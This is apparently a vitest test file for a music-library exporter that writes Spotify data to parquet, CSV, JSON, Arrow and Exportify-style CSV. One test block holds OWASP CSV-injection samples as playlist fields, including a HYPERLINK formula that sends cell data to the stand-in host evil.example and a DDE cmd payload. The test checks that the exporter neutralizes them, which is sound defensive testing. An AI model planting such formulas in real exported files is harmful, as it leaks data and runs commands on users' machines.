import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { tableFromIPC } from 'apache-arrow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spotify } from '@mixtape/connectors';
import { FakeSpotify } from '@mixtape/fixtures';
import { Store } from '../store/store.js';
import { exportSpotify } from './spotify.js';
import { EXPORTIFY_COLUMNS, exportExportify, exportTable } from './table.js';

let server: FakeSpotify;
let store: Store;
const dir = mkdtempSync(join(tmpdir(), 'mt-table-'));

beforeAll(async () => {
  server = new FakeSpotify({ savedTracks: 60, playlists: [120, 0], foreignPlaylists: [] });
  await server.start();
  store = await Store.open({ dataDir: ':memory:' });
  await exportSpotify({ store, client: spotify.spotifyClient({ auth: spotify.staticToken('test-token'), apiUrl: `${server.url}/v1`, env: { MIXTAPE_SPOTIFY_RATE: '1000/1s' } }), streams: ['saved_tracks', 'playlists'] });
});
afterAll(async () => {
  store.close();
  await server.stop();
});

describe('exportTable', () => {
  it('writes the same rows in every format', async () => {
    for (const format of ['parquet', 'csv', 'json'] as const) {
      const out = join(dir, `library.${format}`);
      expect((await exportTable(store, { name: 'library', format, out })).rows).toBe(60);
      const reader = format === 'parquet' ? 'read_parquet' : format === 'csv' ? 'read_csv' : 'read_json';
      expect(await store.scalar(`SELECT count(*) FROM ${reader}('${out}')`)).toBe(60);
    }
    const out = join(dir, 'items.arrow');
    await exportTable(store, { name: 'playlist_items', format: 'arrow', out });
    const t = tableFromIPC(readFileSync(out));
    expect(t.numRows).toBe(120);
    expect(t.schema.fields.map((f) => f.name)).toContain('position');
  });

  it('refuses an unknown table and names the ones there are', async () => {
    await expect(exportTable(store, { name: 'nope', format: 'csv', out: join(dir, 'x.csv') })).rejects.toMatchObject({ code: 'unknown_table' });
  });

  it("writes playlists with Exportify's columns, in order", async () => {
    const { files } = await exportExportify(store, { out: join(dir, 'exportify') });
    expect(files.map((f) => f.rows).sort()).toEqual([0, 120]);
    const text = readFileSync(files.find((f) => f.rows === 120)!.file, 'utf8').trim().split('\n');
    expect(text[0]).toBe(EXPORTIFY_COLUMNS.map((c) => `"${c}"`).join(','));
    expect(text.length).toBe(121);
    const p = server.playlists[0]!;
    expect(text[1]!.startsWith(`"spotify:track:${FakeSpotify.trackIdAt(p, 0)}"`)).toBe(true);
    expect(text[3]!.startsWith(`"spotify:track:${FakeSpotify.trackIdAt(p, 2)}"`)).toBe(true);
  });
});

describe('Exportify CSVs and spreadsheet formulas', () => {
  // Names as a playlist's curator could have typed them (OWASP CSV injection examples).
  const names = {
    title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    artist: `=cmd|' /C calc'!A0`,
    album: '+1+1',
    addedBy: '@SUM(1+1)*cmd|',
  };
  const more = ['-2+3', '\tTabbed', '\rReturned', 'a=b stays', "it's fine"];

  it('neutralizes cells that a spreadsheet would run, and keeps other exports exact', async () => {
    const s = await Store.open({ dataDir: ':memory:' });
    try {
      await s.run(`INSERT INTO tracks (track_id, title, artist_name, album_name) VALUES ('t0', $1, $2, $3)`, [names.title, names.artist, names.album]);
      for (const [i, title] of more.entries()) await s.run(`INSERT INTO tracks (track_id, title, artist_name) VALUES ($1, $2, 'x')`, [`t${i + 1}`, title]);
      await s.run(`INSERT INTO playlists (playlist_id, source, name) VALUES ('p1', 'local', '=evil')`);
      for (let i = 0; i <= more.length; i++) await s.run(`INSERT INTO playlist_items (playlist_id, position, track_id, added_by) VALUES ('p1', $1, $2, $3)`, [i, `t${i}`, i === 0 ? names.addedBy : 'me']);
      const out = join(dir, 'formulas.csv');
      await exportExportify(s, { out, playlist: 'p1' });
      const rows = await s.all<Record<string, string | null>>(`SELECT * FROM read_csv('${out}', all_varchar = true, header = true)`);
      expect(rows[0]).toMatchObject({ 'Track Name': `'${names.title}`, 'Artist Name(s)': `'${names.artist}`, 'Album Name': `'${names.album}`, 'Added By': `'${names.addedBy}` });
      expect(rows.slice(1).map((r) => r['Track Name'])).toEqual(["'-2+3", "'\tTabbed", "'\rReturned", 'a=b stays', "it's fine"]);
      // The plain table exports are data, not spreadsheets: byte-exact.
      for (const format of ['csv', 'parquet'] as const) {
        const file = join(dir, `formulas-tracks.${format}`);
        await exportTable(s, { name: 'tracks', format, out: file });
        const reader = format === 'csv' ? `read_csv('${file}', all_varchar = true, header = true)` : `read_parquet('${file}')`;
        expect((await s.all<{ title: string }>(`SELECT title FROM ${reader} ORDER BY track_id`)).map((r) => r.title)).toEqual([names.title, ...more]);
      }
    } finally {
      s.close();
    }
  });
});
